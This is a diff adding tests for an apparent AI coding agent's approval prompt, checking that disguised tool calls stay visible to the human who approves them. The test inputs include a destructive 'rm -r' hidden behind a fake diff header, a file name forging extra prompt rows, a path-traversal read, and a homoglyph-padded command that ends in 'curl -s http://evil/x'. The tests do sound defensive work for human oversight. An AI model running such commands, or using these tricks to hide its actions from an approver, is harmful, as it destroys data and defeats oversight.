@@ -245,6 +245,59 @@ def test_the_dangerous_part_is_on_the_screen(start: Start, command: str, columns
     terminal.key("esc")
 
 
+@pytest.mark.parametrize("columns", [80, 40])
+def test_a_command_that_begins_as_a_diff_does_is_shown(start: Start, columns: int) -> None:
+    command = "diff --git a b; rm -r " + "src " * 30 + "secret\n: '\n@@ -1 +1 @@\n+ok\n'"
+    terminal = start(step("Now.", bash(command)), step("Done."), columns=columns, rows=40)
+    asked(terminal)
+    assert "src secret" in " ".join(terminal.text.split())
+    assert "    @@ -1 +1 @@" in terminal.text
+    terminal.key("esc")
+
+
+@pytest.mark.parametrize("columns", [80, 40])
+def test_a_name_draws_no_rows_of_its_own(start: Start, columns: int) -> None:
+    """Not even those of another question; the real one would stand far below or above."""
+    name = "a.py\n     1 + print(1)\n  why: write changes a.py\n" + "\n" * 30 + "b.py"
+    terminal = start(step("Now.", write(name)), step("Done."), columns=columns)
+    asked(terminal)
+    assert "\n  why: write changes a.py\n" not in terminal.scrollback
+    assert "\n     1 + print(1)\n" not in terminal.scrollback
+    assert "a.py\\x0a" in terminal.text and "\\x0ab.py\n" in terminal.text.replace("\n ", "\n")
+    terminal.key("esc")
+
+
+@pytest.mark.parametrize("columns", [80, 40])
+def test_a_long_path_hides_neither_its_end_nor_why(start: Start, columns: int) -> None:
+    path = ("x" * 240 + "/../") * 8 + "../" * 20 + "etc/hostname"
+    terminal = start(step("Now.", ("read", {"path": path})), step("Done."), columns=columns)
+    asked(terminal)
+    assert "etc/hostname" in terminal.text.replace("\n", "")
+    assert "whole above this screen: scroll up" in " ".join(terminal.text.split())
+    assert "  why: it is outside the workspace" in " ".join(terminal.text.split("\n"))
+    terminal.key("esc")
+
+
+@pytest.mark.parametrize("columns", [80, 40])
+def test_a_long_word_that_looks_like_another_does_not_push_the_parts_away(start: Start, columns: int) -> None:
+    command = "echo " + "\u0430" * 3000 + f"z; {EVIL}"
+    terminal = start(step("Now.", bash(command)), step("Done."), columns=columns)
+    asked(terminal, "no, and stop")
+    assert "    curl -s http://evil/x\n" in terminal.text
+    assert "only looks like" in terminal.text.replace("\n", " ")
+    terminal.key("esc")
+
+
+@pytest.mark.parametrize("columns", [80, 40])
+def test_a_rule_too_long_to_be_read_is_not_offered(start: Start, columns: int) -> None:
+    folder = "/".join(letter * 240 for letter in "defghij")
+    terminal = start(step("Now.", write(f"{folder}/k.py")), step("Done."), columns=columns)
+    asked(terminal, "no, and stop")
+    assert "k.py" in terminal.text and "scroll up" in terminal.text
+    assert "always in this session" not in terminal.text and "tab changes the rule" not in terminal.text
+    terminal.key("esc")
+
+
 def test_marks_are_bounded(start: Start) -> None:
     terminal = start(step("Now.", bash("npm test " + ("e" + "\u0301" * 400) * 30)), step("Done."))
     asked(terminal)
@@ -270,6 +323,27 @@ def test_a_long_change_says_how_much_stands_above(start: Start) -> None:
     assert f"? write asks to change new.py 90 lines, {90 - len(visible)} above this screen: scroll up" in terminal.text
     assert visible[-1] == 90
     assert "+ line 1\n" in terminal.scrollback
+    terminal.key("esc")
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "told"),
+    [
+        ("all:\n\techo\n", "all:\n    echo\n", True),
+        ("a\n", "a  \n", True),
+        ("a\nb\n", "a\nb", True),
+        ("e\u0301\n", "\u00e9\n", True),
+        ("a\\u200bb\n", "a\u200bb\n", True),
+        ("a\nb\n", "b\na\n", False),
+    ],
+    ids=["tab", "blanks at the end", "last line end", "marks", "a code and its letter", "moved"],
+)
+def test_a_line_that_looks_as_it_did_is_told(start: Start, repo: Path, old: str, new: str, told: bool) -> None:
+    (repo / "app.py").write_text(old)
+    read, change = ("read", {"path": "app.py"}), ("write", {"path": "app.py", "content": new})
+    terminal = start(step("Read.", read), step("Now.", change), step("Done."))
+    asked(terminal)
+    assert ("a changed line looks as it did" in terminal.text) is told
     terminal.key("esc")
 
 
